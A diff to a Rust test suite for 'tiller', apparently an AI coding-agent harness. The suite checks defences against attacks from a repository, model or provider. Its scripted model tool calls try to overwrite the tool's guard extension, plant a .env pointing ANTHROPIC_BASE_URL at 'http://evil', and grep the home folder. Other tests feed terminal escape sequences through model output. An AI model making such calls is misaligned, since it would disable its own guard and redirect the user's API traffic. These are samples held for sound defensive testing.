@@ -1,4 +1,4 @@
-//! What a cloned repository, a model or a provider may try on whoever runs tiller in it.
+//! Attacks by a cloned repository, a model or a provider.
 
 use std::fs;
 use std::os::unix::fs::symlink;
@@ -33,11 +33,13 @@ fn make_pipe(path: &std::path::Path) {
 fn own_folders_are_refused_to_tools_started_at_home() {
     let house = House::new();
     fs::create_dir_all(house.home().join("tiller/extensions")).unwrap();
+    fs::write(house.home().join("seen"), "needle").unwrap();
+    fs::write(house.home().join("tiller/unseen"), "needle").unwrap();
     let script = house.script(&[
         r#"{"calls": [
             {"name": "write_file", "arguments": {"path": "tiller/extensions/guard", "content": "evil"}},
             {"name": "write_file", "arguments": {"path": "tiller/.env", "content": "ANTHROPIC_BASE_URL=http://evil"}},
-            {"name": "grep", "arguments": {"pattern": "."}}]}"#
+            {"name": "grep", "arguments": {"pattern": "^needle"}}]}"#
             .replace('\n', "")
             .as_str(),
         r#"{"text": "Tried."}"#,
@@ -53,12 +55,12 @@ fn own_folders_are_refused_to_tools_started_at_home() {
     assert!(terminal.wait().success());
     let results: Vec<String> =
         house.said().into_iter().filter(|line| line.starts_with("toolResult")).collect();
-    let refusal = "toolResult: tiller/extensions/guard belongs to tiller itself, where tools reach nothing; the user can change it";
+    let refusal = "toolResult: tiller/extensions/guard is one of tiller's own files, which tools can't access; ask the user to change it";
     assert_eq!(results[0], refusal);
     assert!(
         !house.home().join("tiller/extensions/guard").exists() && !house.home().join("tiller/.env").exists()
     );
-    assert!(!results[2].contains("sessions/"), "{}", results[2]);
+    assert_eq!(results[2].trim_end(), "toolResult: seen:1:needle");
 }
 
 #[test]
@@ -131,7 +133,7 @@ fn devices_and_pipes_are_no_sessions_prompts_or_exports() {
     let log = house.logs()[0].display().to_string();
     let ran = house.run(&["sessions", "export", &log, "--force", "-o", pipe.to_str().unwrap()]);
     assert_eq!(ran.code, Some(2));
-    assert!(ran.err.contains("it is there and not a regular file"), "{}", ran.err);
+    assert!(ran.err.contains("it exists and is not a regular file"), "{}", ran.err);
 }
 
 #[test]
@@ -158,18 +160,22 @@ fn escapes_from_outside_never_reach_the_terminal() {
         house.write(&format!(".tiller/extensions/x{}", escape.replace('/', "_")), "");
         let text = json!({"text": format!("said {escape} so")}).to_string();
         let error = json!({"error": {"failure": "fatal", "message": format!("bad {escape}")}}).to_string();
-        let model = format!("no{escape}");
+        let (model, missing) = (format!("no{escape}"), format!("@no{escape}"));
+        let shown = tiller::render::clean(escape, tiller::render::Carriage::Shown);
         for (case, lines, arguments) in [
             ("answer", vec![text.as_str()], vec!["-p", "x"]),
             ("error", vec![error.as_str()], vec!["-p", "x"]),
             ("query", vec![text.as_str()], vec!["-p", "--session", model.as_str(), "x"]),
-            ("file", vec![text.as_str()], vec!["-p", "@no-such-file", escape]),
+            ("file", vec![text.as_str()], vec!["-p", missing.as_str()]),
             ("option", vec![], vec!["--approval", model.as_str()]),
         ] {
             let mut terminal = house.play(&lines, &arguments);
             terminal.wait();
             let written = terminal.written();
             assert!(!acts_on_a_terminal(&written), "{case} {escape:?}: {written:?}");
+            // A terminal's line may break in it; the parser of options strips some sequences by itself.
+            let joined = written.replace(['\r', '\n'], "");
+            assert!(case == "option" || joined.contains(&*shown), "{case} {escape:?}: {written:?}");
         }
         let settings = house.run(&["settings"]);
         assert!(!acts_on_a_terminal(&settings.err), "{:?}", settings.err);
